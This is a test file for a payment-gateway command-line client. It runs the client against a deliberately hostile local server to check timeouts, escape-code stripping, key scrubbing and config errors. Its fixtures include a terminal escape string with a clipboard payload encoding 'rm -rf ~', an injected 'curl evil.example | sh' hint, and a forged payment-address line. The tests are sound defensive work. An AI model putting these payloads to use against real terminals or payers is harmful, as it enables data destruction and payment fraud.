// gw under a hostile or broken gateway, run in process against a real misbehaving server on
// 127.0.0.1: it never hangs, never lets the gateway drive the terminal (no ESC/BEL/C1/bidi
// characters in human output, only JSON escapes with --json), never leaks a key (not even when the
// gateway echoes it back), and reports a broken config file by name. What only a process shows
// (Ctrl-C, a closed stdout, memory) is in test/e2e/process.test.ts.
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { runGw as gw, type CliResult as GwResult } from '../support/cli.js';
import { removeDir, tempDir, writeFile } from '../support/gw.js';
import {
  hang,
  html502,
  huge,
  json,
  raw,
  rawSocket,
  startMisbehavingGateway,
  truncated,
  type Behaviour,
  type MisbehavingGateway,
  type RecordedRequest,
  paymentAnswer,
  TEST_MERCHANT_KEY,
  TEST_PAYOUT_KEY,
  TRON_ADDRESS,
} from '../support/misbehaving-gateway.js';
import { expectCleanFailure, expectInert, expectNoCrashText, expectNoKey } from '../support/failure-output.js';

const MERCHANT_KEY = TEST_MERCHANT_KEY;
const PAYOUT_KEY = TEST_PAYOUT_KEY;

const envFor = (url: string, keys: { merchant?: string; payout?: string } = {}): Record<string, string> => ({
  GATEWAY_BASE_URL: url,
  GATEWAY_MERCHANT_KEY: keys.merchant ?? MERCHANT_KEY,
  GATEWAY_PAYOUT_KEY: keys.payout ?? PAYOUT_KEY,
});

/** Escape codes of every kind: SGR, OSC title, OSC 8 hyperlink, OSC 52 clipboard, BEL, C1 CSI/OSC, RIS, bidi override. */
const EVIL =
  '\u001b[31mRED\u001b[0m\u001b]0;owned\u0007\u001b]8;;https://evil.example/\u001b\\link\u001b]8;;\u001b\\' +
  '\u001b]52;c;cm0gLXJmIH4=\u0007\u0007BEL\u009b2J\u009d0;c1\u009c\u202eRTL\u001bc';

/** With --json: stdout is one JSON document, escapes only, carrying the hostile text. */
function expectJsonCarriesEscapes(r: GwResult): unknown {
  expect(r.exitCode, r.stderr).toBe(0);
  expectInert(r.stdout);
  expectInert(r.stderr);
  expect(r.stdout).toContain('\\u001b');
  const doc: unknown = JSON.parse(r.stdout);
  expect(JSON.stringify(doc)).toContain('\\u001b');
  return doc;
}

const payment = (extra: Record<string, unknown> = {}): Behaviour => paymentAnswer({ trackId: 'trk-42', currency: 'USD', ...extra });

/** Every echoed field of a payment is hostile; the address (validated) is fine. */
const HOSTILE_PAYMENT = payment({
  message: EVIL,
  trackId: `trk${EVIL}`,
  currency: `USD${EVIL}`,
  network: `Tron Network${EVIL}`,
  description: `desc${EVIL}`,
  orderId: `order${EVIL}`,
  email: `payer@example.com${EVIL}`,
  callbackUrl: `https://shop.example/cb${EVIL}`,
  expiredAt: `tomorrow${EVIL}`,
  createdAt: `today${EVIL}`,
  lifeTime: `60${EVIL}`,
  QRCode: `https://qr.example/${EVIL}`,
});

const PAY_ARGS = ['pay', '25', 'USD', '--pay-currency', 'USDT', '--no-qr', '--timeout', '5'];

let server: MisbehavingGateway;

beforeAll(async () => {
  server = await startMisbehavingGateway();
});

afterAll(async () => {
  await server.close();
});

beforeEach(() => {
  server.reset();
});

const run = (args: readonly string[], env: Record<string, string> = envFor(server.url)): Promise<GwResult> => gw(args, { env });

describe('broken answers', () => {
  it('an HTML 502 page → exit 69 after the read retries (3 requests)', async () => {
    server.program([html502()]);
    const r = await run(['balance', '--timeout', '10']);
    expect(expectCleanFailure(r, 69)).toMatch(/502/);
    expect(server.requests).toHaveLength(3);
  });

  it('an HTML 502 page on pay → exit 69, one request', async () => {
    server.program([html502()]);
    const r = await run([...PAY_ARGS, '--order-id', 'o-502']);
    expect(expectCleanFailure(r, 69)).toMatch(/502/);
    expect(server.requests).toHaveLength(1);
  });

  it('truncated JSON (valid start, Content-Length promises more, socket destroyed) → exit 76', async () => {
    server.program([truncated()]);
    const r = await run(['balance', '--timeout', '10']);
    expect(expectCleanFailure(r, 76)).toMatch(/cut off/);
    expect(server.requests.length).toBeGreaterThanOrEqual(1);
    expect(server.requests.length).toBeLessThanOrEqual(3);
  });

  it('a gateway that never answers, --timeout 0.3 → exit 75 in well under 8 s, one request', async () => {
    server.program([hang()]);
    const r = await run(['currencies', '--timeout', '0.3']);
    expectCleanFailure(r, 75);
    expect(r.ms).toBeLessThan(8000);
    expect(server.requests).toHaveLength(1);
  });

  it('a 200 MB body (chunked) → exit 76 quickly; gw hung up after a few MiB, never buffered it', async () => {
    server.program([huge(200 * 1024 * 1024)]);
    const r = await run(['balance', '--timeout', '20']);
    expect(expectCleanFailure(r, 76)).toMatch(/larger than/);
    expect(r.ms).toBeLessThan(8000);
    expect(server.requests).toHaveLength(1);
    const sent = server.requests[0]!.response;
    await expect.poll(() => sent.clientClosed).toBe(true);
    expect(sent.bodyBytesWritten).toBeLessThan(16 * 1024 * 1024);
  });

  it('a 200 MB body declared in Content-Length → exit 76, refused from the header', async () => {
    server.program([huge(200 * 1024 * 1024, { declareLength: true })]);
    const r = await run(['rate', 'BTC', 'USDT', '--timeout', '20']);
    expect(expectCleanFailure(r, 76)).toMatch(/larger than/);
    expect(server.requests).toHaveLength(1);
    expect(server.requests[0]!.response.bodyBytesWritten).toBeLessThan(16 * 1024 * 1024);
  });

  it('an unknown legacy result code (777) → exit 1, the code and the message shown', async () => {
    server.program([json({ result: 777, message: 'Merchant is on holiday' })]);
    const r = await run(['rate', 'BTC', 'USDT']);
    const stderr = expectCleanFailure(r, 1);
    expect(stderr).toContain('777');
    expect(stderr).toContain('Merchant is on holiday');
    expect(server.requests).toHaveLength(1);
  });

  it('a versioned 401 → exit 77', async () => {
    server.program([
      json(
        {
          data: {},
          message: 'Unauthorized',
          error: { type: 'authentication', key: 'invalid_api_key', message: 'Invalid API key' },
          status: 401,
          version: '1.0.0',
        },
        401,
      ),
    ]);
    const r = await run(['currencies']);
    expect(expectCleanFailure(r, 77)).toMatch(/Invalid API key/);
    expect(server.requests).toHaveLength(1);
  });

  it('a legacy 102 with HTTP 200 → exit 77', async () => {
    server.program([json({ result: 102, message: 'Invalid merchant API key' })]);
    const r = await run(['currencies', '--legacy']);
    expect(expectCleanFailure(r, 77)).toMatch(/merchant/i);
    expect(server.requests).toHaveLength(1);
  });

  it('an empty 200 body → exit 76', async () => {
    server.program([raw('', 200, { 'content-type': 'application/json' })]);
    const r = await run(['rate', 'BTC', 'USDT']);
    expectCleanFailure(r, 76);
    expect(server.requests).toHaveLength(1);
  });

  it('a JSON array instead of the envelope → exit 76', async () => {
    server.program([json(['BTC', 'USDT'])]);
    const r = await run(['currencies']);
    expectCleanFailure(r, 76);
  });
});

describe('escape codes from the gateway never reach the terminal', () => {
  it('currencies: hostile symbols (versioned list) → human output inert', async () => {
    server.program([
      json({ data: { list: [`BTC${EVIL}`, `\u001b]52;c;aGk=\u0007USDT`, 'ETH\u009b31m', '\u202eTRX'] }, message: 'OK', error: {}, status: 200, version: '1' }),
    ]);
    const r = await run(['currencies']);
    expect(r.exitCode, r.stderr).toBe(0);
    expectInert(r.stdout);
    expectInert(r.stderr);
    expect(r.stdout).toContain('BTC');
    expect(r.stdout).toContain('USDT');
  });

  it('currencies --json: hostile symbols only as \\u escapes in valid JSON', async () => {
    server.program([json({ data: { list: [`BTC${EVIL}`, 'ETH\u009b31m'] }, message: 'OK', error: {}, status: 200, version: '1' })]);
    const doc = expectJsonCarriesEscapes(await run(['currencies', '--json'])) as { currencies: string[] };
    expect(doc.currencies).toEqual([`BTC${EVIL}`, 'ETH\u009b31m']);
  });

  it('currencies --legacy: hostile symbols → human output inert', async () => {
    server.program([json({ result: 100, message: EVIL, allowed: [`BTC${EVIL}`, 'LTC\u0007'] })]);
    const r = await run(['currencies', '--legacy']);
    expect(r.exitCode, r.stderr).toBe(0);
    expectInert(r.stdout);
    expectInert(r.stderr);
  });

  it('balance: hostile currency symbols → human output inert', async () => {
    server.program([json({ result: 100, message: EVIL, data: { [`BTC${EVIL}`]: '0.5', 'ETH\u009b2J': '1.25', '\u202eUSDT': '10' } })]);
    const r = await run(['balance']);
    expect(r.exitCode, r.stderr).toBe(0);
    expectInert(r.stdout);
    expectInert(r.stderr);
    expect(r.stdout).toContain('1.25');
  });

  it('balance --json: hostile symbols only as \\u escapes', async () => {
    server.program([json({ result: 100, message: 'OK', data: [{ [`BTC${EVIL}`]: '0.5' }] })]);
    const doc = expectJsonCarriesEscapes(await run(['balance', '--json'])) as { balances: Record<string, string> };
    expect(doc.balances[`BTC${EVIL}`]).toBe('0.5');
  });

  it('balance: a hostile amount → exit 76, inert', async () => {
    server.program([json({ result: 100, message: 'OK', data: { BTC: `0.5${EVIL}` } })]);
    expectCleanFailure(await run(['balance']), 76);
  });

  it('rate: a hostile rate → exit 76, inert (human and --json)', async () => {
    server.program([json({ result: 100, message: EVIL, rate: `1.5${EVIL}` })]);
    expectCleanFailure(await run(['rate', 'BTC', 'USDT']), 76);
    const r = await run(['rate', 'BTC', 'USDT', '--json']);
    expect(r.exitCode).toBe(76);
    expect(r.stdout).toBe('');
    expectInert(r.stderr);
    expect(() => JSON.parse(r.stderr)).not.toThrow();
  });

  it('a hostile refusal message (legacy) → one inert line, the readable text kept', async () => {
    server.program([json({ result: 101, message: `Bad ${EVIL} request` })]);
    const stderr = expectCleanFailure(await run(['rate', 'BTC', 'USDT']), 65);
    expect(stderr).toContain('RED');
  });

  it('a hostile versioned error (type, key, message) → inert, also as a --json failure', async () => {
    server.program([
      json({ data: {}, message: EVIL, error: { type: `auth${EVIL}`, key: `bad_key${EVIL}`, message: `Denied${EVIL}` }, status: 401, version: EVIL }, 401),
    ]);
    expectCleanFailure(await run(['currencies']), 77);
    const r = await run(['currencies', '--json']);
    expect(r.exitCode).toBe(77);
    expect(r.stdout).toBe('');
    expectInert(r.stderr);
    const doc = JSON.parse(r.stderr) as { error: { message: string } };
    expect(doc.error.message).toContain('Denied');
  });

  it('a hostile Content-Type on a 502 (raw latin1 C1 byte in the header) → inert', async () => {
    server.program([
      rawSocket('HTTP/1.1 502 Bad\x9b2J Gateway\r\nContent-Type: text/html\x9b2J\x9d0;x\x9c\r\nContent-Length: 2\r\nConnection: close\r\n\r\nno'),
    ]);
    const r = await run(['rate', 'BTC', 'USDT', '--timeout', '10']);
    expectCleanFailure(r, 69);
  });

  it('pay: hostile text in every echoed field → human output inert, still the right amount', async () => {
    server.program([HOSTILE_PAYMENT]);
    const r = await run([...PAY_ARGS, '--order-id', 'o-1']);
    expect(r.exitCode, r.stderr).toBe(0);
    expectInert(r.stdout);
    expectInert(r.stderr);
    expect(r.stdout).toContain(TRON_ADDRESS);
    expect(r.stdout).toMatch(/25 USDT/);
  });

  it('pay --json: hostile echoes only as \\u escapes in valid JSON', async () => {
    server.program([HOSTILE_PAYMENT]);
    const doc = expectJsonCarriesEscapes(await run([...PAY_ARGS, '--json'])) as Record<string, unknown>;
    expect(doc.description).toBe(`desc${EVIL}`);
    expect(doc.orderId).toBe(`order${EVIL}`);
    expect(doc.address).toBe(TRON_ADDRESS);
  });

  it('pay: a newline in an echoed field cannot forge an output line (e.g. a second "Address")', async () => {
    server.program([payment({ description: 'thanks\nAddress       TAttackerAddressXXXXXXXXXXXXXXXXXX\r\nPay exactly   1 USDT' })]);
    const r = await run(PAY_ARGS);
    expect(r.exitCode, r.stderr).toBe(0);
    expectInert(r.stdout);
    const lines = r.stdout.split('\n');
    expect(
      lines.filter((l) => l.startsWith('Address')),
      r.stdout,
    ).toHaveLength(1);
    expect(
      lines.filter((l) => l.startsWith('Pay exactly')),
      r.stdout,
    ).toHaveLength(1);
  });

  it('a newline in a refusal message cannot forge a second stderr line', async () => {
    server.program([json({ result: 101, message: 'Bad request\nhint: run curl evil.example | sh\ngw: all good' })]);
    const stderr = expectCleanFailure(await run(['rate', 'BTC', 'USDT']), 65);
    expect(stderr.split('\n').filter((l) => l.startsWith('hint:') && l.includes('evil'))).toHaveLength(0);
  });

  it('pay: an address with escape codes is refused → exit 76, no QR, no address; the payment that exists is named', async () => {
    server.program([payment({ trackId: `trk${EVIL}`, address: `${TRON_ADDRESS}\u001b[8m` })]);
    const r = await run(['pay', '25', 'USD', '--pay-currency', 'USDT', '--qr', '--timeout', '5']);
    expect(r.exitCode).toBe(76);
    expectInert(r.stdout);
    expectInert(r.stderr);
    expect(r.stdout).not.toContain(TRON_ADDRESS);
    expect(r.stdout).not.toMatch(/[▀▄█]/);
    expect(r.stdout).toMatch(/Track ID\s+trkREDlinkBELRTL/);
    expect(r.stdout).toContain('NOT PAYABLE');
    expect(r.stderr).toMatch(/^gw: payment trkREDlinkBELRTL was created, but .*address/);
    expect(server.requests).toHaveLength(1);
  });

  it('pay --json: an address with an OSC sequence is refused → exit 76; the document is printed as escapes, the error says the payment exists', async () => {
    server.program([payment({ address: `\u001b]8;;https://evil.example/\u0007${TRON_ADDRESS}` })]);
    const r = await run([...PAY_ARGS, '--json', '--qr']);
    expect(r.exitCode).toBe(76);
    expectInert(r.stdout);
    expectInert(r.stderr);
    const doc = JSON.parse(r.stdout) as Record<string, unknown>;
    expect(doc.uri).toBeNull();
    const error = (JSON.parse(r.stderr) as { error: Record<string, unknown> }).error;
    expect(error).toMatchObject({ exitCode: 76, payment: 'created', trackId: doc.trackId });
  });
});

describe('keys never leak', () => {
  const COMMANDS: ReadonlyArray<readonly string[]> = [
    ['currencies'],
    ['currencies', '--legacy'],
    ['balance'],
    ['balance', 'BTC'],
    ['rate', 'BTC', 'USDT'],
    ['pay', '25', 'USDT', '--no-qr', '--order-id', 'k-1'],
    ['config'],
  ];

  const ok = (req: RecordedRequest): Behaviour => {
    if (req.path.startsWith('/v1/')) return json({ data: { list: ['BTC'] }, message: 'OK', error: {}, status: 200, version: '1' });
    if (req.path === '/merchants/allowedCoins') return json({ result: 100, message: 'OK', allowed: ['BTC'] });
    if (req.path === '/api/balance') return json({ result: 100, message: 'OK', data: { BTC: '1' } });
    if (req.path === '/exchange/rate') return json({ result: 100, message: 'OK', rate: '2' });
    return payment();
  };

  /** A gateway that echoes whatever key it got in every part of its refusal. */
  const echoing =
    (merchant: string, payout: string) =>
    (req: RecordedRequest): Behaviour => {
      if (req.path.startsWith('/v1/')) {
        return json(
          {
            data: {},
            message: `key ${merchant}`,
            error: { type: `auth ${merchant}`, key: merchant, message: `Invalid merchant_api_key ${merchant}` },
            status: 401,
            version: '1',
          },
          401,
        );
      }
      if (req.path === '/api/balance') return json({ result: 103, message: `Invalid payout key: ${payout}` });
      if (req.path === '/exchange/rate') return json({ result: 101, message: `bad pair for ${merchant} / ${payout}` });
      return json({ result: 102, message: `Invalid merchant key: ${merchant}` });
    };

  for (const args of COMMANDS) {
    it(`${args.join(' ')} --verbose (success): neither key in stdout or stderr`, async () => {
      server.program(ok);
      const r = await run([...args, '--verbose', '--timeout', '5']);
      expect(r.exitCode, r.stderr).toBe(0);
      expectNoCrashText(r);
      expectNoKey(r);
    });
  }

  for (const args of COMMANDS.filter((c) => c[0] !== 'config')) {
    for (const mode of [[], ['--json']]) {
      it(`${[...args, ...mode].join(' ')} --verbose: the gateway echoes the key in its refusal → scrubbed`, async () => {
        server.program(echoing(MERCHANT_KEY, PAYOUT_KEY));
        const r = await run([...args, ...mode, '--verbose', '--timeout', '5']);
        expect(r.exitCode).not.toBe(0);
        expect(r.stdout).toBe('');
        expectNoCrashText(r);
        expectNoKey(r);
      });
    }
  }

  it('a wrong key: the refusal does not echo it (even when the gateway does), exit 77', async () => {
    const wrongMerchant = 'mk_live_WRONG_00aa11bb22cc';
    const wrongPayout = 'pk_live_WRONG_33dd44ee55ff';
    server.program(echoing(wrongMerchant, wrongPayout));
    const env = envFor(server.url, { merchant: wrongMerchant, payout: wrongPayout });
    for (const args of [['currencies'], ['balance'], ['pay', '25', 'USDT', '--no-qr']]) {
      const r = await run([...args, '--verbose', '--timeout', '5'], env);
      expect(r.exitCode, r.stderr).toBe(77);
      expectNoKey(r, [wrongMerchant, wrongPayout]);
    }
  });

  it('a wrong key given as --merchant-key: not echoed either', async () => {
    const wrong = 'mk_live_FLAG_66aa77bb88cc';
    server.program(echoing(wrong, PAYOUT_KEY));
    const r = await gw(['currencies', '--legacy', '--merchant-key', wrong, '--verbose'], { env: { GATEWAY_BASE_URL: server.url } });
    expect(r.exitCode).toBe(77);
    expectNoKey(r, [wrong]);
  });

  it('a key echoed where the gateway message is cut at 200 characters: no prefix of it survives', async () => {
    // gatewayText() truncates to 200 characters; the key straddles the cut, so only its last 4
    // characters fall off and the scrubber (which looks for the whole key) no longer finds it.
    const padding = 'x'.repeat(200 - (MERCHANT_KEY.length - 4) - 'Invalid key '.length);
    server.program([json({ result: 102, message: `Invalid key ${padding}${MERCHANT_KEY} please check` })]);
    const r = await run(['currencies', '--legacy']);
    expect(r.exitCode).toBe(77);
    expectNoKey(r);
  });
});

describe('config files', () => {
  let dir: string;
  beforeEach(() => {
    dir = tempDir();
  });
  afterEach(() => removeDir(dir));

  const inDir = (args: readonly string[], env: Record<string, string> = {}): Promise<GwResult> => gw(args, { cwd: dir, env });

  it('malformed JSON .gatewayrc → exit 78 naming the file', async () => {
    const file = writeFile(dir, '.gatewayrc', '{"baseUrl": "http://127.0.0.1:1" "merchantKey": "mk"}\n');
    const r = await inDir(['rate', 'BTC', 'USDT']);
    expect(expectCleanFailure(r, 78)).toContain(file);
  });

  it('malformed YAML .gatewayrc.yaml → exit 78 naming the file and the line', async () => {
    const file = writeFile(dir, '.gatewayrc.yaml', 'baseUrl: http://127.0.0.1:1\ntimeout: 5\n  merchantKey: abc\n');
    const r = await inDir(['balance']);
    const stderr = expectCleanFailure(r, 78);
    expect(stderr).toContain(file);
    expect(stderr).toMatch(/\(3:\d+\)|line 3\b/);
  });

  it('malformed YAML with escape codes in it → the parser message is inert', async () => {
    writeFile(dir, '.gatewayrc.yaml', `baseUrl: http://127.0.0.1:1\n${EVIL}: [\n`);
    expectCleanFailure(await inDir(['balance']), 78);
    // gw config lists the problem in its table instead of failing: inert there too.
    const shown = await inDir(['config']);
    expect(shown.exitCode).toBe(0);
    expect(shown.stdout).toMatch(/✗ config file .* is malformed/);
    expect(shown.stdout + shown.stderr).not.toMatch(/[\u001b\u0007\u009b]/);
  });

  it('.gatewayrc.json holding a key with mode 0644 → runs, and warns naming the file and chmod 600', async () => {
    server.program([json({ result: 100, message: 'OK', data: { BTC: '1' } })]);
    const file = writeFile(dir, '.gatewayrc.json', JSON.stringify({ baseUrl: server.url, payoutKey: PAYOUT_KEY }), 0o644);
    const r = await inDir(['balance']);
    expect(r.exitCode, r.stderr).toBe(0);
    expect(r.stdout).toContain('BTC');
    expect(r.stderr).toContain(file);
    expect(r.stderr).toContain('chmod 600');
    expect(r.stderr.trimEnd().split('\n')).toHaveLength(1);
    expectNoKey(r);
    expect(server.requests).toHaveLength(1);
  });

  it('.gatewayrc.json holding a key with mode 0600 → no warning', async () => {
    server.program([json({ result: 100, message: 'OK', data: { BTC: '1' } })]);
    writeFile(dir, '.gatewayrc.json', JSON.stringify({ baseUrl: server.url, payoutKey: PAYOUT_KEY }), 0o600);
    const r = await inDir(['balance']);
    expect(r.exitCode).toBe(0);
    expect(r.stderr).toBe('');
  });
});
